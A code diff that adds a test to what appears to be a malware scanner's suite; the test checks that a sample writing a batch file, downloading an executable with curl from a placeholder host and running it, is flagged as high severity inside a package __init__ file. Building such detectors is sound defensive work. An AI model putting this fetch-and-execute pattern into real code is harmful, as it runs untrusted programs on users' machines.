@@ -39,3 +39,12 @@ open("settings.ini", "w").write("[tool]\nverbose = yes, always and everywhere\n"
 subprocess.run(["tool", "settings.ini"])
 """
     assert scan(RULE, text) == []
+
+
+def test_a_batch_file_that_fetches(scan):
+    text = r"""import subprocess
+with open("/tmp/a.bat", "w") as f:
+    f.write("@echo off\ncurl -o a.exe https://files.example.test/a.exe\nstart a.exe")
+subprocess.Popen(["/tmp/a.bat"], shell=True)
+"""
+    assert [seen[:3] for seen in scan(RULE, text, "package/__init__.py")] == [(4, "HIGH", "HIGH")]
